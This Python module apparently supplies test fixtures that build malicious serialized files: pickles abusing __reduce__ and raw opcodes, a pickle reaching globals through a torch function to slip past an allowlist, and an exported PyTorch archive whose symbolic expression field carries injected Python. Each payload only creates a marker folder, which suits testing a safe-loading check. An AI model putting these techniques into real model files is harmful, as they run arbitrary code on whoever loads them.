"""Pieces of files that run a program where they are read carelessly; the program leaves a mark."""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import torch
from torch import nn

LENGTH = 1024
"""Values of a sound that the exported networks take."""


class Evil:
    """An object that, when it is unpickled, makes a folder: the mark."""

    def __init__(self, mark: Path) -> None:
        self.mark = str(mark)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.mark,)


class State:
    """An object whose state, not its construction, is what runs."""

    def __init__(self, mark: Path) -> None:
        self.mark = str(mark)

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, (f"__import__('os').mkdir({self.mark!r})",)


def program(mark: Path) -> str:
    """Return Python source that leaves the mark, once."""
    return f"import os\nos.path.exists({str(mark)!r}) or os.mkdir({str(mark)!r})\n"


def global_pickle(mark: Path) -> bytes:
    """Return a pickle of protocol 0 that names a function by the oldest opcodes."""
    return f"cposix\nmkdir\n(V{mark}\ntR.".encode()


def stack_pickle(mark: Path) -> bytes:
    """Return a pickle that names its function by texts on the stack (STACK_GLOBAL)."""
    path = str(mark).encode()
    return b"\x80\x04\x8c\x05posix\x8c\x05mkdir\x93\x8c" + bytes([len(path)]) + path + b"\x85R."


def inst_pickle(mark: Path) -> bytes:
    """Return a pickle that calls by the opcode INST."""
    return f"(V{mark}\niposix\nmkdir\n.".encode()


def built_pickle(mark: Path) -> bytes:
    """Return a pickle that gets at a function through attributes of what torch allows."""
    return f"ctorch._utils\n_rebuild_tensor_v2.__globals__\n(V{mark}\ntR.".encode()


def rewritten(file: Path, members: Mapping[str, bytes]) -> None:
    """Replace members of an archive, each named by the end of its name, and add those that it lacks."""
    with zipfile.ZipFile(file) as archive:
        content = {entry.filename: archive.read(entry) for entry in archive.infolist()}
    root = next(iter(content)).partition("/")[0]
    for name, data in members.items():
        there = [known for known in content if known.endswith(name)]
        content.update(dict.fromkeys(there or [f"{root}/{name}"], data))
    write_zip(file, content)


def write_zip(file: Path, content: Mapping[str, bytes]) -> None:
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in content.items():
            archive.writestr(name, data)


class Loudness(nn.Module):
    """A network of sounds with a weight and a constant."""

    def __init__(self) -> None:
        super().__init__()
        self.weight = nn.Parameter(torch.ones(1))
        self.constant = torch.ones(1)

    def forward(self, waveforms: torch.Tensor) -> torch.Tensor:
        return (self.weight * waveforms + self.constant).abs().mean(dim=1, keepdim=True)


def exported(file: Path) -> Path:
    """Write an exported network of sounds."""
    rows = torch.export.Dim("rows", min=2, max=4096)
    torch.export.save(torch.export.export(Loudness(), (torch.zeros(4, LENGTH),), dynamic_shapes=({0: rows},)), file)
    return file


def members(file: Path) -> list[str]:
    with zipfile.ZipFile(file) as archive:
        return archive.namelist()


def with_expression(file: Path, mark: Path) -> None:
    """Put a symbolic expression into an exported network that sympy evaluates as Python."""
    with zipfile.ZipFile(file) as archive:
        name = next(name for name in archive.namelist() if name.endswith("model.json"))
        text = archive.read(name).decode()
    graph = json.loads(text)
    code = f"__import__('os').makedirs({str(mark)!r}, exist_ok=True) or "
    rewritten(file, {name: json.dumps(_infected(graph, code)).encode()})


def _infected(part: Any, code: str) -> Any:
    if isinstance(part, dict):
        return {
            key: f"({code}Symbol('s77', integer=True))" if key == "expr_str" else _infected(value, code)
            for key, value in part.items()
        }
    return [_infected(each, code) for each in part] if isinstance(part, list) else part


def saved(content: object, *, legacy: bool = False) -> bytes:
    """Return what torch.save writes of an object."""
    stream = io.BytesIO()
    torch.save(content, stream, _use_new_zipfile_serialization=not legacy)
    return stream.getvalue()


def pickled(mark: Path, protocol: int = 2) -> bytes:
    return pickle.dumps({"fc.weight": Evil(mark)}, protocol=protocol)
